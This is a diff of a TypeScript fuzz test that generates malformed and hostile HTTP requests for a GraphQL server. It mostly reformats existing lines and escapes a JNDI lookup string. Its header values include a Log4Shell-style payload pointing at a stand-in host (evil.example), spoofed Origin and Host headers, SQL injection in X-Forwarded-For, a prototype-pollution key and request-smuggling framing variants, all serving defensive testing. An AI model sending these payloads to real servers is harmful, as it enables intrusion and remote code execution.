@@ -117,8 +117,23 @@ const parameter = fc
     fc.constantFrom(...NAMES),
     fc.oneof(
       fc.constantFrom(...QUERIES),
-      fc.constantFrom('ndjson', 'csv', 'ecs', '{}', '{"n":1}', '2026-01-31T12:00:00Z', 'OPERATION_DENIED', 'null', '[]', 'x'),
-      fc.constantFrom('{"persistedQuery":{"version":1,"sha256Hash":"00"}}', '{"persistedQuery":null}', '{"persistedQuery":7}'),
+      fc.constantFrom(
+        'ndjson',
+        'csv',
+        'ecs',
+        '{}',
+        '{"n":1}',
+        '2026-01-31T12:00:00Z',
+        'OPERATION_DENIED',
+        'null',
+        '[]',
+        'x',
+      ),
+      fc.constantFrom(
+        '{"persistedQuery":{"version":1,"sha256Hash":"00"}}',
+        '{"persistedQuery":null}',
+        '{"persistedQuery":7}',
+      ),
       nearlyJson.filter((text) => text.length < 4_000),
       oddText,
     ),
@@ -127,12 +142,18 @@ const parameter = fc
 const search = fc.oneof(
   { arbitrary: fc.constant(''), weight: 4 },
   { arbitrary: fc.array(parameter, { maxLength: 4 }).map((parts) => `?${parts.join('&')}`), weight: 4 },
-  { arbitrary: fc.constantFrom('?', '?&&&', '?%', '?a=%ff', '?query', '?query=%00', `?${'a&'.repeat(3_000)}`), weight: 1 },
+  {
+    arbitrary: fc.constantFrom('?', '?&&&', '?%', '?a=%ff', '?query', '?query=%00', `?${'a&'.repeat(3_000)}`),
+    weight: 1,
+  },
 );
 
 const target = fc
   .tuple(
-    fc.oneof({ arbitrary: fc.constantFrom(...PATHS), weight: 6 }, { arbitrary: fc.constantFrom(...ODD_PATHS), weight: 2 }),
+    fc.oneof(
+      { arbitrary: fc.constantFrom(...PATHS), weight: 6 },
+      { arbitrary: fc.constantFrom(...ODD_PATHS), weight: 2 },
+    ),
     search,
   )
   .map(([path, query]) => `${path}${query}`);
@@ -140,7 +161,10 @@ const target = fc
 const method = fc.oneof(
   { arbitrary: fc.constantFrom('GET', 'POST'), weight: 12 },
   { arbitrary: fc.constantFrom('HEAD', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'), weight: 4 },
-  { arbitrary: fc.constantFrom('TRACE', 'CONNECT', 'PROPFIND', 'QUERY', 'get', 'FOO', '', 'PRI', 'G\0T', 'M-SEARCH'), weight: 1 },
+  {
+    arbitrary: fc.constantFrom('TRACE', 'CONNECT', 'PROPFIND', 'QUERY', 'get', 'FOO', '', 'PRI', 'G\0T', 'M-SEARCH'),
+    weight: 1,
+  },
 );
 
 /** Header values by name: what is right, and what has led readers astray. */
@@ -205,14 +229,31 @@ const VALUES: Readonly<Record<string, readonly string[]>> = {
   Expect: ['100-continue', '100-Continue', '200-ok', 'x', ''],
   Upgrade: ['websocket', 'h2c', 'TLS/1.0', 'websocket, h2c', ''],
   Connection: ['close', 'keep-alive', 'Upgrade', 'upgrade, close', 'x', 'Authorization', ''],
-  Origin: ['https://evil.example', 'null', 'http://localhost:5173', 'http://127.0.0.1', 'http://localhost:99999', '\xff', ''],
+  Origin: [
+    'https://evil.example',
+    'null',
+    'http://localhost:5173',
+    'http://127.0.0.1',
+    'http://localhost:99999',
+    '\xff',
+    '',
+  ],
   Host: ['127.0.0.1', 'evil.example', '', 'a, b', '\xff', '[::1', '127.0.0.1:x'],
   Cookie: ['a=b', '__Host-x={{ada}}', '=;=;', '\xff'],
-  'X-Forwarded-For': ['203.0.113.9', '203.0.113.9, ::1', 'unknown', ',,,', '\xff', "' OR 1=1", '::ffff:1.2.3.4%eth0', '1.2.3.4:80'],
+  'X-Forwarded-For': [
+    '203.0.113.9',
+    '203.0.113.9, ::1',
+    'unknown',
+    ',,,',
+    '\xff',
+    "' OR 1=1",
+    '::ffff:1.2.3.4%eth0',
+    '1.2.3.4:80',
+  ],
   'X-Forwarded-Proto': ['https', 'javascript'],
   'X-Forwarded-Host': ['evil.example'],
   Forwarded: ['for=1.2.3.4;host=evil.example'],
-  'User-Agent': ['x'.repeat(5_000), '\xff\xfe', '${jndi:ldap://evil.example}', ''],
+  'User-Agent': ['x'.repeat(5_000), '\xff\xfe', '$\x7bjndi:ldap://evil.example}', ''],
   Traceparent: ['00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', 'ff-x', ''],
   'Apollo-Require-Preflight': ['true', ''],
   'X-Apollo-Operation-Name': ['A'],
@@ -250,27 +291,63 @@ const many = fc.constantFrom(201, 2_500).map((often) => Array(often).fill(['x', 
 const huge = fc.constant([['X-Huge', 'x'.repeat(40_000)] as const]);
 const headers = fc
   .tuple(
-    fc.oneof({ arbitrary: fc.constant<readonly (readonly [string, string])[]>([['Host', '127.0.0.1']]), weight: 25 }, { arbitrary: fc.constant([]), weight: 1 }),
+    fc.oneof(
+      { arbitrary: fc.constant<readonly (readonly [string, string])[]>([['Host', '127.0.0.1']]), weight: 25 },
+      { arbitrary: fc.constant([]), weight: 1 },
+    ),
     fc.array(header, { maxLength: 6 }),
-    fc.oneof({ arbitrary: fc.constant([]), weight: 25 }, { arbitrary: many, weight: 1 }, { arbitrary: huge, weight: 1 }),
+    fc.oneof(
+      { arbitrary: fc.constant([]), weight: 25 },
+      { arbitrary: many, weight: 1 },
+      { arbitrary: huge, weight: 1 },
+    ),
   )
   .map((parts) => parts.flat());
 
 const graphqlBody = fc
   .tuple(
     fc.constantFrom(...QUERIES),
-    fc.constantFrom<unknown>(undefined, null, {}, { id: 'x', p: 'y', s: 'c', n: 2 }, { s: 1, n: 'x' }, [], 'x', { f: { types: ['X'] } }),
+    fc.constantFrom<unknown>(undefined, null, {}, { id: 'x', p: 'y', s: 'c', n: 2 }, { s: 1, n: 'x' }, [], 'x', {
+      f: { types: ['X'] },
+    }),
     fc.constantFrom<unknown>(undefined, null, 'A', 'B', '', 7, '\ud800'),
-    fc.constantFrom<unknown>(undefined, null, {}, [], 'x', { operationId: 'o' }, { operationId: {} }, { persistedQuery: { version: 1, sha256Hash: '0'.repeat(64) } }),
+    fc.constantFrom<unknown>(
+      undefined,
+      null,
+      {},
+      [],
+      'x',
+      { operationId: 'o' },
+      { operationId: {} },
+      { persistedQuery: { version: 1, sha256Hash: '0'.repeat(64) } },
+    ),
   )
-  .map(([query, variables, operationName, extensions]) => JSON.stringify({ query, variables, operationName, extensions }));
+  .map(([query, variables, operationName, extensions]) =>
+    JSON.stringify({ query, variables, operationName, extensions }),
+  );
 
 /** The members of a request, each of any shape. */
 const anyMembers = fc
-  .uniqueArray(fc.tuple(fc.constantFrom('query', 'variables', 'operationName', 'extensions', 'documentId', 'id', 'userId', '__proto__', 'http'), nearlyJson), {
-    selector: ([name]) => name,
-    maxLength: 5,
-  })
+  .uniqueArray(
+    fc.tuple(
+      fc.constantFrom(
+        'query',
+        'variables',
+        'operationName',
+        'extensions',
+        'documentId',
+        'id',
+        'userId',
+        '__proto__',
+        'http',
+      ),
+      nearlyJson,
+    ),
+    {
+      selector: ([name]) => name,
+      maxLength: 5,
+    },
+  )
   .map((members) => `{${members.map(([name, value]) => `"${name}":${value}`).join(',')}}`);
 
 const multipart = [
@@ -285,12 +362,23 @@ const textBody = fc.oneof(
   { arbitrary: nearlyJson, weight: 2 },
   { arbitrary: fc.tuple(graphqlBody, graphqlBody).map((both) => `[${both.join(',')}]`), weight: 1 },
   { arbitrary: fc.constantFrom(...multipart), weight: 1 },
-  { arbitrary: fc.constantFrom('{"userId":"user_ada"}', '{"userId":"user_nobody"}', '{"userId":[]}', '{"userId":"\\ud800"}'), weight: 1 },
+  {
+    arbitrary: fc.constantFrom(
+      '{"userId":"user_ada"}',
+      '{"userId":"user_nobody"}',
+      '{"userId":[]}',
+      '{"userId":"\\ud800"}',
+    ),
+    weight: 1,
+  },
   { arbitrary: fc.constantFrom('', ' ', '\ufeff{}', `{"query":"${'x'.repeat(70_000)}"}`), weight: 1 },
 );
 
 const body: fc.Arbitrary<string> = fc
-  .tuple(textBody.map(bytesOf), fc.constantFrom('as it is', 'as it is', 'as it is', 'as it is', 'gzip', 'br', 'cut gzip', 'bytes', 'utf-16'))
+  .tuple(
+    textBody.map(bytesOf),
+    fc.constantFrom('as it is', 'as it is', 'as it is', 'as it is', 'gzip', 'br', 'cut gzip', 'bytes', 'utf-16'),
+  )
   .map(([text, how]) => {
     const bytes = Buffer.from(text, 'latin1');
     if (how === 'gzip') return gzipSync(bytes).toString('latin1');
@@ -305,7 +393,18 @@ const framing: fc.Arbitrary<Framing> = fc.oneof(
   { arbitrary: fc.constantFrom<Framing>('length', 'chunked'), weight: 10 },
   {
     arbitrary: fc.constantFrom<Framing>(
-      ...(['none', 'too long', 'too short', 'both', 'two lengths', 'two equal lengths', 'negative', 'signed', 'hex', 'huge'] as const),
+      ...([
+        'none',
+        'too long',
+        'too short',
+        'both',
+        'two lengths',
+        'two equal lengths',
+        'negative',
+        'signed',
+        'hex',
+        'huge',
+      ] as const),
       ...(['odd coding', 'two codings', 'bad chunk', 'chunk extension', 'trailers', 'no last chunk'] as const),
     ),
     weight: 3,
@@ -314,7 +413,20 @@ const framing: fc.Arbitrary<Framing> = fc.oneof(
 
 const version = fc.oneof(
   { arbitrary: fc.constant('HTTP/1.1'), weight: 25 },
-  { arbitrary: fc.constantFrom('HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'HTTP/9.9', 'http/1.1', '', 'HTTP/1.1 ', 'ICE/1.0', 'RTSP/1.0'), weight: 1 },
+  {
+    arbitrary: fc.constantFrom(
+      'HTTP/1.0',
+      'HTTP/0.9',
+      'HTTP/2.0',
+      'HTTP/9.9',
+      'http/1.1',
+      '',
+      'HTTP/1.1 ',
+      'ICE/1.0',
+      'RTSP/1.0',
+    ),
+    weight: 1,
+  },
 );
 
 /** Any request at all. */
@@ -327,7 +439,10 @@ const wellFormed: fc.Arbitrary<FuzzedRequest> = fc
   .record({
     method: fc.constantFrom('POST', 'POST', 'POST', 'GET', 'PUT', 'DELETE'),
     target: fc
-      .tuple(fc.constantFrom('/graphql', '/graphql', '/graphql', '/graphql/stream', '/audit/export', '/dev/session'), search)
+      .tuple(
+        fc.constantFrom('/graphql', '/graphql', '/graphql', '/graphql/stream', '/audit/export', '/dev/session'),
+        search,
+      )
       .map(([path, query]) => `${path}${query}`),
     version: fc.constant('HTTP/1.1'),
     headers: fc
